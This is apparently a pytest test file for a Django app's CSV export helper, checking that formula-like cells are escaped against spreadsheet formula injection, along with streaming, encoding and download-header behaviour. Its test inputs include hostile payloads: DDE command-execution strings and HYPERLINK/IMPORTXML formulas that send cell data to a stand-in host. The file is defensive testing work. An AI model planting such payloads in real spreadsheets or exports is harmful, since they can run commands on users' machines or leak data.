"""CSV exports: Excel-friendly UTF-8, and no cell a spreadsheet would run as a formula."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.utils import translation
from django.utils.translation import gettext_lazy

from portico.core.csvexport import BATCH_SIZE, csv_response, safe_cell
from portico.core.http import content_disposition


def body(response) -> bytes:
    """The whole file of a streamed CSV response."""
    assert response.streaming
    return b"".join(response.streaming_content)


def parsed(response):
    """The cells of a CSV response, as a spreadsheet would read them."""
    text = body(response).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        '   =IMPORTXML(CONCAT("http://evil.example/?", A1), "//a")',
        "\u3000=1+1",
        '＝HYPERLINK("http://evil.example")',
        "－1+cmd|' /C calc'!A0",
        "=",
    ],
)
def test_formula_like_text_gets_a_leading_quote(hostile):
    assert safe_cell(hostile) == f"'{hostile}"


@pytest.mark.parametrize(
    "harmless",
    [
        "Acme Oy",
        "a=b",
        "x@example.com",
        "1+1",
        "",
        "+358 40 123 4567",
        "-12.50",
        "+1 (555) 010-9999",
        "-5%",
        "2026-01-31",
    ],
)
def test_plain_text_numbers_and_phone_numbers_stay_as_they_are(harmless):
    assert safe_cell(harmless) == harmless


def test_numbers_stay_numbers_and_other_values_become_text():
    assert safe_cell(-3) == -3
    assert safe_cell(Decimal("-12.50")) == Decimal("-12.50")
    assert safe_cell(-0.5) == -0.5
    assert safe_cell(None) == ""
    assert safe_cell(True) == "True"
    assert safe_cell(date(2026, 1, 31)) == "2026-01-31"
    with translation.override("en"):
        assert safe_cell(gettext_lazy("Open")) == "Open"


def test_values_whose_text_looks_like_a_formula_are_neutralised_too():
    class Contact:
        def __str__(self):
            return "=cmd|' /C calc'!A0"

    assert safe_cell(Contact()) == "'=cmd|' /C calc'!A0"


def test_csv_response_is_a_utf8_download_with_a_byte_order_mark():
    response = csv_response("cases.csv", ["Number", "Subject"], [["CS-000001", "Printer ünd Ä"]])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == "attachment; filename=\"cases.csv\"; filename*=UTF-8''cases.csv"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Cache-Control"] == "private"
    content = body(response)
    assert content.startswith(b"\xef\xbb\xbfNumber,Subject\r\n")
    assert content.decode("utf-8").count("\ufeff") == 1
    assert list(csv.reader(io.StringIO(content.decode("utf-8")[1:]))) == [
        ["Number", "Subject"],
        ["CS-000001", "Printer ünd Ä"],
    ]


def test_hostile_cells_and_headers_arrive_neutralised_and_the_rest_intact():
    rows = [
        ["=1+1", 'Quote " and, comma', "line\nbreak"],
        ["@evil", -7, None],
    ]
    response = csv_response("export.csv", ["+Header", "Plain", "Third"], iter(rows))
    assert parsed(response) == [
        ["'+Header", "Plain", "Third"],
        ["'=1+1", 'Quote " and, comma', "line\nbreak"],
        ["'@evil", "-7", ""],
    ]


def test_an_export_with_no_rows_has_its_header():
    assert parsed(csv_response("empty.csv", ["Number"], [])) == [["Number"]]


def test_a_large_export_is_streamed_in_several_chunks_and_reads_its_rows_lazily():
    consumed = []

    def rows():
        for n in range(5000):
            consumed.append(n)
            yield [f"CS-{n:06d}", f"=evil{n}" if n % 1000 == 0 else f"Subject {n}", n]

    response = csv_response("cases.csv", ["Number", "Subject", "N"], rows())
    assert consumed == []  # nothing read before the response is sent
    chunks = iter(response.streaming_content)
    first = next(chunks)
    assert first == "\ufeffNumber,Subject,N\r\n".encode()
    assert consumed == []  # the header goes out before the first row is read
    second = next(chunks)
    assert len(consumed) == BATCH_SIZE  # one batch read, the rest still waiting
    rest = list(chunks)
    assert len(rest) == -(-5000 // BATCH_SIZE) - 1  # every batch its own chunk
    expected = io.StringIO()
    expected.write("\ufeff")
    writer = csv.writer(expected)
    writer.writerow(["Number", "Subject", "N"])
    writer.writerows([f"CS-{n:06d}", f"'=evil{n}" if n % 1000 == 0 else f"Subject {n}", n] for n in range(5000))
    assert b"".join([first, second, *rest]) == expected.getvalue().encode("utf-8")


def test_the_rows_are_closed_when_the_download_stops_half_way(db):
    """The server closes the response when the client goes away; the rows (a database cursor) close with it."""
    closed = []

    def rows():
        try:
            for n in range(5000):
                yield [n]
        finally:
            closed.append(True)

    response = csv_response("cases.csv", ["N"], rows())
    chunks = iter(response.streaming_content)
    next(chunks), next(chunks)
    response.close()
    assert closed == [True]


def test_translated_cells_keep_the_language_of_the_request_while_streaming():
    with translation.override("fi"):
        response = csv_response("cases.csv", [gettext_lazy("Yes")], [[gettext_lazy("No")]])
    with translation.override("en"):
        assert parsed(response) == [["Kyllä"], ["Ei"]]


def test_a_non_ascii_file_name_is_sent_in_filename_star():
    response = csv_response("tapaukset–Åbo.csv", ["A"], [])
    assert response["Content-Disposition"] == (
        "attachment; filename=\"tapauksetAbo.csv\"; filename*=UTF-8''tapaukset%E2%80%93%C3%85bo.csv"
    )


@pytest.mark.parametrize(
    ("filename", "header"),
    [
        ("report.pdf", "attachment; filename=\"report.pdf\"; filename*=UTF-8''report.pdf"),
        ('a"b\\c;d.txt', "attachment; filename=\"a_b_c_d.txt\"; filename*=UTF-8''a%22b%5Cc%3Bd.txt"),
        ("Отчёт.pdf", "attachment; filename=\"download.pdf\"; filename*=UTF-8''%D0%9E%D1%82%D1%87%D1%91%D1%82.pdf"),
        ("日本", "attachment; filename=\"download\"; filename*=UTF-8''%E6%97%A5%E6%9C%AC"),
    ],
)
def test_content_disposition_gives_an_ascii_fallback_and_the_exact_name(filename, header):
    assert content_disposition(filename) == header


def test_content_disposition_can_say_inline():
    assert content_disposition("photo.png", inline=True).startswith('inline; filename="photo.png"; ')
